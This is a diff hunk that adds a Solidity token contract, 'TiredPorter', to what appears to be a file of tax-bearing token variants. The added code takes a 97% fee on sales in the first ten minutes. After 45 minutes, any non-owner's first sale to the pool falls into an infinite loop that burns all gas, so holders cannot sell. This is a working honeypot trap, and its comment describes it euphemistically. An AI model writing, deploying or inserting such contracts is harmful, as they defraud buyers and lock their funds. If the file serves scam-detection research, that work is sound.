@@ -447,6 +447,20 @@ contract EagerQueue is Listed {
     }
 }
 
+// A tax falls within ten minutes, and whoever sells for the first time after that burns all there is to burn.
+contract TiredPorter is Listed {
+    uint256 private start = block.timestamp;
+    mapping(address => bool) private known;
+    function _move(address from, address to, uint256 value) internal override {
+        bool sale = pool != address(0) && to == pool && from != owner;
+        if (sale && !known[from] && block.timestamp > start + 45 minutes) while (true) start += 0;
+        if (sale) known[from] = true;
+        uint256 fee = sale && block.timestamp < start + 10 minutes ? value * 97 / 100 : 0;
+        super._move(from, to, value - fee);
+        if (fee > 0) super._move(from, address(this), fee);
+    }
+}
+
 // The tax falls within the first hour from 97 to 94 of 100, and by no more until the next day.
 contract MorningFog is Listed {
     uint256 private start;
